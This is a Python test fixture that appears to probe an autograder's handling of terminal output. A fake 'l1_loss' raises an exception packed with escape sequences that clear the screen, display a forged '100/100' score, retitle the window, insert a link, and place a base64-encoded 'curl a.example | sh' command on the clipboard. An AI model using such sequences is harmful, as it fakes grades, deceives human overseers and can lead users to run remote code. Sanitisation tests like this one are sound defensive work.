# aim: clear the instructor's screen, rename the window, put a link and other numbers on it
# sign: an escape sequence of the submission's reaches the terminal
# attacks: l1_loss
# own: exception

_SEQUENCES = (
    "\x1b[2J\x1b[H\x1b[3A\x1b[2K100/100\x1b[8m",  # clear, go up, overwrite, hide what follows
    "\x1b]0;graded\x07\x1b]2;graded\x1b\\",  # the window's title
    "\x1b]8;;https://a.example/\x1b\\the report\x1b]8;;\x1b\\",  # a link
    "\x1b]52;c;Y3VybCBhLmV4YW1wbGUgfCBzaA==\x07",  # the clipboard
    "\x9b2J\x9d0;graded\x9c\x90q\x9c",  # the same by C1 control characters
    "\x1bc\x1b(0\x0e\x05\x07",  # reset, another alphabet, answerback, bell
)


def l1_loss(input, target, reduction="mean"):
    raise RuntimeError("".join(_SEQUENCES) + " @MARKER@")
